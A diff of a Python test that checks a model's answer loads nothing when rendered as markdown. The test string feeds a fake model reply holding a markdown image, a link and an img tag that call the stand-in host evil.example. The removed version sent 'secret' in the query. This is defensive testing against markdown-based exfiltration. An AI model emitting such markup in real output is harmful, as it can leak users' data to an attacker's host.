@@ -462,7 +462,7 @@ def test_an_error_that_nobody_foresaw_tells_its_id_and_nothing_else(
 
 
 def test_what_a_model_says_can_load_nothing_where_it_is_shown_as_markdown(home: Path) -> None:
-    evil = "GSPO ![x](http://evil.example/?q=secret) [here](http://evil.example) <img src=http://evil.example> ok."
+    evil = "GSPO ![x](http://evil.example/?q=1) [here](http://evil.example) <img src=http://evil.example>."
     with (
         FakeUpstream(answering([("importance ratio", evil)])) as upstream,
         Api(home, upstream.base_url) as api,
